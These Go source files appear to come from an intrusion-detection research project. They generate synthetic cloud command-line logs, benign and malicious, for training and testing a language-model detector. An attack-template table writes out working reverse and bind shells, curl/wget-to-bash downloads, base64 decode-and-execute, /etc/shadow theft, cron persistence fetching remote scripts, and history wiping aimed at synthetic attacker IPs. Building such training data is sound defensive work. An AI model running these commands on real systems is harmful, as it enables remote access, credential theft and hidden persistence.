	{"nc_shell", true, func(r *rand.Rand, nm *naming) []string {
		forms := []string{
			fmt.Sprintf("nc -lvnp %d", nm.port()),
			fmt.Sprintf("nc -e /bin/sh %s %d", nm.ip(), nm.port()),
			fmt.Sprintf("ncat -lvp %d -e /bin/bash", nm.port()),
		}
		return []string{forms[r.Intn(len(forms))]}
	}},
	{"nc_shell", false, func(r *rand.Rand, nm *naming) []string {
		forms := []string{
			fmt.Sprintf("nc -ulp %d", nm.port()),
			fmt.Sprintf("ncat --udp -lp %d -e /bin/sh", nm.port()),
		}
		return []string{forms[r.Intn(len(forms))]}
	}},

	// --- Family: fd-redirection reverse shells ---
	{"rev_shell", true, func(r *rand.Rand, nm *naming) []string {
		return []string{fmt.Sprintf("bash -i >& /dev/tcp/%s/%d 0>&1", nm.ip(), nm.port())}
	}},
	{"rev_shell", false, func(r *rand.Rand, nm *naming) []string {
		forms := []string{
			fmt.Sprintf(`java -cp tmp.jar "bash=bash -i >& /dev/tcp/%s/%d 0>&1"`, nm.ip(), nm.port()),
			fmt.Sprintf("sh -i >& /dev/udp/%s/%d 0>&1", nm.ip(), nm.port()),
		}
		return []string{forms[r.Intn(len(forms))]}
	}},

	// --- Family: port scanning ---
	{"masscan", true, func(r *rand.Rand, nm *naming) []string {
		return []string{fmt.Sprintf("masscan %s -p 0-65535 --rate=1000 >> tmp.txt", nm.ip())}
	}},
	{"masscan", false, func(r *rand.Rand, nm *naming) []string {
		return []string{fmt.Sprintf("sh /root/masscan.sh %s -p 0-65535", nm.ip())}
	}},

	// --- Family: proxy exfiltration ---
	{"proxy", true, func(r *rand.Rand, nm *naming) []string {
		return []string{fmt.Sprintf(`export https_proxy="http://%s:%d"`, nm.ip(), nm.port())}
	}},
	{"proxy", false, func(r *rand.Rand, nm *naming) []string {
		return []string{fmt.Sprintf(`export https_proxy="socks5://%s:%d"`, nm.ip(), nm.port())}
	}},

	// --- Family: base64-decode-and-execute ---
	{"b64_exec", true, func(r *rand.Rand, nm *naming) []string {
		return []string{fmt.Sprintf(`java -jar tmp.jar -C "bash -c {echo,%s} {base64,-d} {bash,-i}"`, fakeB64(r))}
	}},
	{"b64_exec", false, func(r *rand.Rand, nm *naming) []string {
		forms := []string{
			fmt.Sprintf(`python3 tmp.py -p "bash -c {echo,%s} {base64,-d} {bash,-i}"`, fakeB64(r)),
			fmt.Sprintf("echo %s | base64 -d | bash -i", fakeB64(r)),
		}
		return []string{forms[r.Intn(len(forms))]}
	}},

	// --- Family: download-and-execute ---
	{"download_exec", true, func(r *rand.Rand, nm *naming) []string {
		forms := []string{
			fmt.Sprintf("curl http://%s/%x.sh | bash", nm.ip(), r.Intn(1<<16)),
			fmt.Sprintf("wget -q -O- http://%s/init.sh | sh", nm.ip()),
		}
		return []string{forms[r.Intn(len(forms))]}
	}},
	{"download_exec", false, func(r *rand.Rand, nm *naming) []string {
		// The paper's §IV-C chain: download, rename to an innocuous
		// interpreter name, then execute — only suspicious in context.
		return []string{
			fmt.Sprintf("wget -c http://%s/%x -o python", nm.ip(), r.Intn(1<<16)),
			"python",
		}
	}},

	// --- Family: credential theft ---
	{"cred_theft", true, func(r *rand.Rand, nm *naming) []string {
		return []string{"cat /etc/shadow"}
	}},
	{"cred_theft", false, func(r *rand.Rand, nm *naming) []string {
		return []string{fmt.Sprintf("tar -cf /tmp/.%x.tar /etc/shadow /etc/passwd", r.Intn(1<<16))}
	}},

	// --- Family: cron persistence ---
	{"persistence", true, func(r *rand.Rand, nm *naming) []string {
		return []string{fmt.Sprintf(`(crontab -l; echo "* * * * * curl http://%s/s.sh | sh") | crontab -`, nm.ip())}
	}},
	{"persistence", false, func(r *rand.Rand, nm *naming) []string {
		return []string{fmt.Sprintf(`echo "* * * * * curl -fsSL http://%s/s.sh -o /tmp/.s && sh /tmp/.s" >> /var/spool/cron/root`, nm.ip())}
	}},

	// --- Family: anti-forensics ---
	{"history_clear", true, func(r *rand.Rand, nm *naming) []string {
		return []string{"history -c && rm -f ~/.bash_history"}
	}},
	{"history_clear", false, func(r *rand.Rand, nm *naming) []string {
		return []string{"unset HISTFILE; ln -sf /dev/null ~/.bash_history"}
	}},
}

// pickAttack samples a variant with the requested box-ness.
func pickAttack(r *rand.Rand, outOfBox bool) attackVariant {
	candidates := make([]attackVariant, 0, len(attackVariants)/2)
	for _, v := range attackVariants {
		if v.inBox != outOfBox {
			candidates = append(candidates, v)
		}
	}
	return candidates[r.Intn(len(candidates))]
}

// AttackFamilies returns the distinct family names, for reporting.
func AttackFamilies() []string {
	seen := make(map[string]bool)
	var out []string
	for _, v := range attackVariants {
		if !seen[v.family] {
			seen[v.family] = true
			out = append(out, v.family)
		}
	}
	return out
}

// TableIIIPairs returns the paper's Table III verbatim as (in-box,
// out-of-box) example pairs, with the paper's anonymized "*" arguments
// instantiated to fixed synthetic values. Used by the qualitative analyses
// (§V-C) and the generalization experiment (E6).
func TableIIIPairs() [][2]string {
	const (
		ip   = "203.0.113.77"
		port = "4444"
		b64  = "cGtnIGluc3RhbGwgJiYgcnVuIC1kCg=="
	)
	return [][2]string{
		{"nc -lvnp " + port, "nc -ulp " + port},
		{"masscan " + ip + " -p 0-65535 --rate=1000 >> tmp.txt",
			"sh /root/masscan.sh " + ip + " -p 0-65535"},
		{"bash -i >& /dev/tcp/" + ip + "/" + port + " 0>&1",
			`java -cp tmp.jar "bash=bash -i >& /dev/tcp/` + ip + "/" + port + ` 0>&1"`},
		{`export https_proxy="http://` + ip + ":" + port + `"`,
			`export https_proxy="socks5://` + ip + ":" + port + `"`},
		{`java -jar tmp.jar -C "bash -c {echo,` + b64 + `} {base64,-d} {bash,-i}"`,
			`python3 tmp.py -p "bash -c {echo,` + b64 + `} {base64,-d} {bash,-i}"`},
		{"curl http://" + ip + "/a1f3.sh | bash",
			"wget -c http://" + ip + "/a1f3 -o python"},
	}
}
