package corpus

import "testing"

func replayFixture(t *testing.T) *Dataset {
	t.Helper()
	cfg := DefaultConfig()
	cfg.TrainLines = 120
	cfg.TestLines = 40
	_, test, err := Generate(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return test
}

func TestReplayerOnePass(t *testing.T) {
	ds := replayFixture(t)
	r := NewReplayer(ds, false)
	n := 0
	var last int64
	for {
		s, ok := r.Next()
		if !ok {
			break
		}
		if s.Time < last {
			t.Fatalf("sample %d: time went backwards (%d < %d)", n, s.Time, last)
		}
		last = s.Time
		if s.Line != ds.Samples[n].Line {
			t.Fatalf("sample %d: line mismatch", n)
		}
		n++
	}
	if n != len(ds.Samples) {
		t.Fatalf("replayed %d of %d samples", n, len(ds.Samples))
	}
	if _, ok := r.Next(); ok {
		t.Fatal("exhausted replayer produced a sample")
	}
}

// TestReplayerLoopMonotonic: looping replay shifts timestamps so event
// time never goes backwards across pass boundaries, and repeats lines.
func TestReplayerLoopMonotonic(t *testing.T) {
	ds := replayFixture(t)
	r := NewReplayer(ds, true)
	total := 2*len(ds.Samples) + 7
	var last int64
	for i := 0; i < total; i++ {
		s, ok := r.Next()
		if !ok {
			t.Fatalf("looping replayer ran dry at %d", i)
		}
		if s.Time < last {
			t.Fatalf("event %d: time went backwards (%d < %d)", i, s.Time, last)
		}
		last = s.Time
		if want := ds.Samples[i%len(ds.Samples)].Line; s.Line != want {
			t.Fatalf("event %d: line %q, want %q", i, s.Line, want)
		}
	}
}

func TestReplayerNextBatch(t *testing.T) {
	ds := replayFixture(t)
	r := NewReplayer(ds, false)
	got := 0
	for {
		b := r.NextBatch(16)
		got += len(b)
		if len(b) < 16 {
			break
		}
	}
	if got != len(ds.Samples) {
		t.Fatalf("batched replay yielded %d of %d", got, len(ds.Samples))
	}
	empty := NewReplayer(&Dataset{}, true)
	if _, ok := empty.Next(); ok {
		t.Fatal("empty looping replayer produced a sample")
	}
}
