package corpus

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"testing"

	"clmids/internal/modality"
)

// corpusDigest serializes both splits as JSONL and hashes the bytes.
func corpusDigest(t *testing.T, cfg Config) string {
	t.Helper()
	train, test, err := Generate(cfg)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := train.WriteJSONL(&buf); err != nil {
		t.Fatal(err)
	}
	if err := test.WriteJSONL(&buf); err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(buf.Bytes())
	return hex.EncodeToString(sum[:])
}

// TestShellCorpusByteIdenticalToPreRegistry pins the shell generation bytes
// to a digest captured on the pre-modality implementation (the generator
// moved from corpus to modality must preserve the exact rand call sequence).
// A failure means the refactor changed the synthetic corpus — and with it
// every downstream tokenizer, model, and scorer artifact.
func TestShellCorpusByteIdenticalToPreRegistry(t *testing.T) {
	cfg := DefaultConfig()
	cfg.TrainLines, cfg.TestLines, cfg.Seed = 1200, 600, 42
	cfg.IntrusionRate = 0.2
	const want = "c3e0240740976a9ea29d8a3b72060a2ba694a46790c213fd73a4e848bb51a4d8"
	if got := corpusDigest(t, cfg); got != want {
		t.Fatalf("shell corpus digest changed:\n got  %s\n want %s", got, want)
	}
}

// TestAllModalitiesDeterministic: same seed → byte-identical corpus, for
// every registered modality.
func TestAllModalitiesDeterministic(t *testing.T) {
	for _, name := range modality.Names() {
		t.Run(name, func(t *testing.T) {
			cfg := DefaultConfig()
			cfg.TrainLines, cfg.TestLines, cfg.Seed = 900, 400, 7
			cfg.Modality = name
			if a, b := corpusDigest(t, cfg), corpusDigest(t, cfg); a != b {
				t.Fatalf("%s: same seed produced different corpora: %s vs %s", name, a, b)
			}
			cfg.Seed = 8
			if a, b := corpusDigest(t, cfg), corpusDigest(t, cfg); a != b {
				t.Fatalf("%s: same seed produced different corpora: %s vs %s", name, a, b)
			}
		})
	}
}

// TestAllModalitiesGenerateLabeledTraffic checks the structural contract of
// every registered modality's generator through the shared session engine:
// garbage fails the validator, everything else parses, intrusions exist in
// both boxes, and typo lines carry command units outside the routine set.
func TestAllModalitiesGenerateLabeledTraffic(t *testing.T) {
	for _, name := range modality.Names() {
		t.Run(name, func(t *testing.T) {
			mod := modality.MustGet(name)
			cfg := DefaultConfig()
			cfg.TrainLines, cfg.TestLines, cfg.Seed = 3000, 1000, 11
			cfg.IntrusionRate = 0.1
			train, test, err := Generate(cfg.withModality(name))
			if err != nil {
				t.Fatal(err)
			}
			counts := map[string]int{}
			for _, d := range []*Dataset{train, test} {
				for _, s := range d.Samples {
					counts[s.Family]++
					_, err := mod.Parse(s.Line)
					if s.Family == "garbage" {
						if err == nil {
							t.Errorf("garbage line passes %s validator: %q", name, s.Line)
						}
					} else if err != nil {
						t.Errorf("%s line rejected by validator: %q (family %s): %v", name, s.Line, s.Family, err)
					}
				}
			}
			for _, fam := range []string{"routine", "garbage", "typo", "weird", "recon"} {
				if counts[fam] == 0 {
					t.Errorf("%s: no %q lines generated", name, fam)
				}
			}
			if test.CountLabel(Intrusion) == 0 || test.CountOutOfBox() == 0 {
				t.Errorf("%s: test split lacks intrusions (total %d, oob %d)",
					name, test.CountLabel(Intrusion), test.CountOutOfBox())
			}
			families := map[string]bool{}
			for _, f := range mod.NewGen(nil).Families() {
				families[f] = true
			}
			for _, s := range test.Samples {
				if s.Label == Intrusion && !families[s.Family] {
					t.Errorf("%s: intrusion family %q not in Families()", name, s.Family)
				}
			}
		})
	}
}

func (c Config) withModality(name string) Config {
	c.Modality = name
	return c
}

func TestGenerateRejectsUnknownModality(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Modality = "carrier-pigeon"
	if _, _, err := Generate(cfg); err == nil {
		t.Fatal("unknown modality accepted")
	}
}
