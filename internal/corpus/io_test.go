package corpus

import (
	"bytes"
	"reflect"
	"strings"
	"testing"
)

func TestJSONLRoundTrip(t *testing.T) {
	cfg := DefaultConfig()
	cfg.TrainLines = 300
	cfg.TestLines = 100
	train, _, err := Generate(cfg)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := train.WriteJSONL(&buf); err != nil {
		t.Fatalf("WriteJSONL: %v", err)
	}
	back, err := ReadJSONL(&buf)
	if err != nil {
		t.Fatalf("ReadJSONL: %v", err)
	}
	if !reflect.DeepEqual(train.Samples, back.Samples) {
		t.Fatal("JSONL round trip altered samples")
	}
}

func TestReadJSONLErrors(t *testing.T) {
	if _, err := ReadJSONL(strings.NewReader("not json\n")); err == nil {
		t.Error("garbage accepted")
	}
	if _, err := ReadJSONL(strings.NewReader(`{"line":"ls","label":"weird-label"}` + "\n")); err == nil {
		t.Error("unknown label accepted")
	}
	d, err := ReadJSONL(strings.NewReader("\n\n"))
	if err != nil || len(d.Samples) != 0 {
		t.Error("blank lines should be skipped")
	}
}
