package corpus

// Replayer emits a dataset as a timestamped event stream, in sample order
// (generation order is timestamp order). With Loop enabled the stream is
// infinite: each pass replays the same samples with timestamps shifted
// forward so event time stays strictly monotonic — the load-test stand-in
// for the paper's continuous 30M-line/day feed, with the same
// exact-duplicate structure a real log tail shows.
type Replayer struct {
	ds   *Dataset
	at   int
	loop bool
	// span is the per-pass timestamp shift: last sample time - first + 1.
	span  int64
	shift int64
}

// NewReplayer wraps a dataset. loop selects endless replay with
// monotonically shifted timestamps.
func NewReplayer(ds *Dataset, loop bool) *Replayer {
	r := &Replayer{ds: ds, loop: loop}
	if n := len(ds.Samples); n > 0 {
		r.span = ds.Samples[n-1].Time - ds.Samples[0].Time + 1
	}
	return r
}

// Next returns the next sample with its replay-adjusted timestamp; ok is
// false when a non-looping replayer is exhausted (or the dataset is empty).
func (r *Replayer) Next() (Sample, bool) {
	if r.at >= len(r.ds.Samples) {
		if !r.loop || len(r.ds.Samples) == 0 {
			return Sample{}, false
		}
		r.at = 0
		r.shift += r.span
	}
	s := r.ds.Samples[r.at]
	r.at++
	s.Time += r.shift
	return s, true
}

// NextBatch returns up to n consecutive samples (fewer only when a
// non-looping replayer runs dry).
func (r *Replayer) NextBatch(n int) []Sample {
	out := make([]Sample, 0, n)
	for len(out) < n {
		s, ok := r.Next()
		if !ok {
			break
		}
		out = append(out, s)
	}
	return out
}
