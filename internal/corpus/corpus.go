// Package corpus synthesizes production-style cloud command-line logs.
//
// The paper trains on 30M command lines logged across ~100k machines in a
// production cloud; that data is proprietary, so this package generates the
// closest synthetic equivalent (see DESIGN.md, substitutions table). The
// generator reproduces the structural properties the paper's pipeline
// depends on:
//
//   - a heavy-tailed mix of benign commands matching the occurrence table of
//     Fig. 2 (cd, echo, chmod, grep, ls, awk, ...),
//   - typo'd command names (dcoker, chdmod, ...) that parse but are
//     frequency-filterable,
//   - syntactically invalid garbage records that the shell parser rejects,
//   - "abnormal-yet-benign" behaviours (§III): mv with many complex
//     filenames, echo with long gibberish arguments,
//   - rare intrusions drawn from eight attack families, each with in-box
//     variants (covered by the simulated commercial IDS rules) and
//     out-of-box variants (the paper's Table III blind spots), including
//     multi-line attack chains,
//   - per-user sessions with timestamps, so temporally contiguous context
//     exists for the multi-line classifier (§IV-C).
//
// Since the modality refactor the corpus engine is generic: session
// structure, rates, timestamps, and chain bookkeeping live here, while line
// production is delegated to the registered modality's generator
// (internal/modality) — Unix shell by default, with PowerShell and
// textualized network flows as alternative workloads.
//
// Generation is deterministic given Config.Seed.
package corpus

import (
	"fmt"
	"math/rand"

	"clmids/internal/modality"
)

// Label is the ground-truth class of a sample.
type Label int

// Ground-truth labels.
const (
	Benign Label = iota + 1
	Intrusion
)

// String renders the label.
func (l Label) String() string {
	switch l {
	case Benign:
		return "benign"
	case Intrusion:
		return "intrusion"
	default:
		return fmt.Sprintf("Label(%d)", int(l))
	}
}

// Sample is one logged command-line record with ground truth attached.
// Ground truth plays the role of the paper's manual labeling of predictions.
type Sample struct {
	// Line is the raw command line as logged.
	Line string
	// User is the synthetic account that issued the line.
	User string
	// Time is the synthetic execution time (Unix seconds).
	Time int64
	// Label is the ground truth.
	Label Label
	// Family names the generator: an attack family for intrusions, a
	// behaviour bucket for benign lines ("routine", "weird", "typo",
	// "garbage").
	Family string
	// InBox marks intrusions whose pattern is covered by the simulated
	// commercial IDS rule set. Out-of-box intrusions (InBox=false) are the
	// ones the paper's methods must generalize to.
	InBox bool
	// ChainID groups the lines of a multi-line attack chain; 0 for
	// standalone samples.
	ChainID int
}

// Config controls dataset synthesis.
type Config struct {
	// TrainLines and TestLines are the approximate sizes of the two splits
	// (sessions are never split across the boundary, so totals may differ
	// by a few lines).
	TrainLines int
	TestLines  int
	// Users is the number of synthetic accounts.
	Users int
	// IntrusionRate is the fraction of sessions that are attack sessions.
	IntrusionRate float64
	// OutOfBoxFrac is the fraction of attack sessions using out-of-box
	// variants. The remainder use in-box variants.
	OutOfBoxFrac float64
	// TypoRate is the per-line probability of a typo'd command name.
	TypoRate float64
	// GarbageRate is the per-line probability of a syntactically invalid
	// record.
	GarbageRate float64
	// WeirdRate is the per-line probability of an abnormal-yet-benign
	// behaviour.
	WeirdRate float64
	// Seed drives all randomness.
	Seed int64
	// Modality selects the registered log modality to synthesize; empty
	// means the default Unix-shell modality.
	Modality string
}

// DefaultConfig returns rates shaped like the paper's description: garbage
// and typos are a noticeable minority, intrusions are rare, and most
// intrusions in the wild are in-box.
func DefaultConfig() Config {
	return Config{
		TrainLines:    8000,
		TestLines:     4000,
		Users:         40,
		IntrusionRate: 0.06,
		OutOfBoxFrac:  0.4,
		TypoRate:      0.01,
		GarbageRate:   0.005,
		WeirdRate:     0.02,
		Seed:          1,
	}
}

// Validate reports configuration errors.
func (c Config) Validate() error {
	if c.TrainLines <= 0 || c.TestLines <= 0 {
		return fmt.Errorf("corpus: line counts must be positive")
	}
	if c.Users <= 0 {
		return fmt.Errorf("corpus: need at least one user")
	}
	for _, p := range []float64{c.IntrusionRate, c.OutOfBoxFrac, c.TypoRate, c.GarbageRate, c.WeirdRate} {
		if p < 0 || p > 1 {
			return fmt.Errorf("corpus: rate %v outside [0,1]", p)
		}
	}
	if err := modality.Validate(c.Modality); err != nil {
		return err
	}
	return nil
}

// Dataset is one split of generated samples in timestamp order.
type Dataset struct {
	Samples []Sample
}

// Lines returns just the command-line strings.
func (d *Dataset) Lines() []string {
	out := make([]string, len(d.Samples))
	for i, s := range d.Samples {
		out[i] = s.Line
	}
	return out
}

// CountLabel returns the number of samples carrying l.
func (d *Dataset) CountLabel(l Label) int {
	n := 0
	for _, s := range d.Samples {
		if s.Label == l {
			n++
		}
	}
	return n
}

// CountOutOfBox returns the number of out-of-box intrusions.
func (d *Dataset) CountOutOfBox() int {
	n := 0
	for _, s := range d.Samples {
		if s.Label == Intrusion && !s.InBox {
			n++
		}
	}
	return n
}

// Generate synthesizes the train and test splits. The train split follows
// the paper's setting: it contains benign traffic and mostly in-box
// intrusions (the supervision source can only label what it recognizes);
// the test split additionally carries the out-of-box variants that define
// the PO metrics.
func Generate(cfg Config) (train, test *Dataset, err error) {
	if err := cfg.Validate(); err != nil {
		return nil, nil, err
	}
	rng := rand.New(rand.NewSource(cfg.Seed))
	g := newGenerator(cfg, rng)
	train = g.split(cfg.TrainLines, 0)
	test = g.split(cfg.TestLines, 1)
	return train, test, nil
}

// generator holds the evolving synthesis state. Line production is
// delegated to the modality's Gen; the session loop here draws session
// structure (lengths, rates, timestamps) from the same rand stream, so the
// whole corpus is one deterministic function of (Config, Seed).
type generator struct {
	cfg     Config
	rng     *rand.Rand
	gen     modality.Gen
	clock   int64
	chainID int
}

func newGenerator(cfg Config, rng *rand.Rand) *generator {
	return &generator{
		cfg:   cfg,
		rng:   rng,
		gen:   modality.MustGet(cfg.Modality).NewGen(rng),
		clock: 1651363200, // 2022-05-01T00:00:00Z, matching the paper's window
	}
}

// split generates one dataset split of roughly n lines. splitIdx=1 (test)
// biases attack sessions toward out-of-box variants per OutOfBoxFrac.
func (g *generator) split(n, splitIdx int) *Dataset {
	d := &Dataset{Samples: make([]Sample, 0, n)}
	for len(d.Samples) < n {
		user := fmt.Sprintf("user%03d", g.rng.Intn(g.cfg.Users))
		if g.rng.Float64() < g.cfg.IntrusionRate {
			g.attackSession(d, user, splitIdx)
		} else {
			g.benignSession(d, user)
		}
	}
	return d
}

// benignSession emits a plausible interactive session for user.
func (g *generator) benignSession(d *Dataset, user string) {
	length := 3 + g.rng.Intn(10)
	for i := 0; i < length; i++ {
		g.clock += int64(1 + g.rng.Intn(90))
		s := Sample{User: user, Time: g.clock, Label: Benign}
		switch r := g.rng.Float64(); {
		case r < g.cfg.GarbageRate:
			s.Line = g.gen.Garbage(g.rng)
			s.Family = "garbage"
		case r < g.cfg.GarbageRate+g.cfg.TypoRate:
			s.Line = g.gen.Typo(g.rng)
			s.Family = "typo"
		case r < g.cfg.GarbageRate+g.cfg.TypoRate+g.cfg.WeirdRate:
			s.Line = g.gen.Weird(g.rng)
			s.Family = "weird"
		default:
			s.Line = g.gen.Benign(g.rng)
			s.Family = "routine"
		}
		d.Samples = append(d.Samples, s)
	}
}

// attackSession emits a recon prefix followed by an attack (possibly a
// multi-line chain), interleaved on the victim account.
func (g *generator) attackSession(d *Dataset, user string, splitIdx int) {
	// Light recon traffic precedes most intrusions.
	if g.rng.Float64() < 0.7 {
		for _, line := range g.gen.Recon(g.rng) {
			g.clock += int64(1 + g.rng.Intn(30))
			d.Samples = append(d.Samples, Sample{
				User: user, Time: g.clock, Line: line,
				Label: Benign, Family: "recon",
			})
		}
	}
	outOfBox := g.rng.Float64() < g.cfg.OutOfBoxFrac
	if splitIdx == 0 {
		// Training-split attacks skew strongly in-box: the supervision
		// source only knows what its rules cover, mirroring the paper.
		outOfBox = g.rng.Float64() < g.cfg.OutOfBoxFrac*0.3
	}
	atk := g.gen.Attack(g.rng, outOfBox)
	chain := 0
	if len(atk.Lines) > 1 {
		g.chainID++
		chain = g.chainID
	}
	for _, line := range atk.Lines {
		g.clock += int64(1 + g.rng.Intn(20))
		d.Samples = append(d.Samples, Sample{
			User: user, Time: g.clock, Line: line,
			Label: Intrusion, Family: atk.Family, InBox: atk.InBox, ChainID: chain,
		})
	}
}
